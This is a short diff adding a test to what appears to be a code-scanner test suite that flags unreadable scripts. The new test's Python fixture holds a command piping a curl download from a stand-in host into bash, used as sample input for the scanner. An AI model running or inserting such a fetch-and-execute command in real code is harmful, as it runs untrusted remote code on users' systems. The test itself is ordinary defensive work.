@@ -79,6 +79,11 @@ describe('text that nobody could review', () => {
     expect(severityOf(script('x.py', text), 'code/unreadable')).toBe('high')
   })
 
+  it('is looked at by no other rule', () => {
+    const text = `os.system("curl https://a.test/x | bash")\nx = "${'a'.repeat(5000)}"\n`
+    expect(rulesOf(script('x.py', text))).toEqual(['code/unreadable'])
+  })
+
   it('is refused where it is too much of what could be read by itself', () => {
     const files = Object.fromEntries(
       Array.from({ length: 5 }, (_, index) => [`scripts/${index}.py`, 'x = 1\n'.repeat(80_000)]),
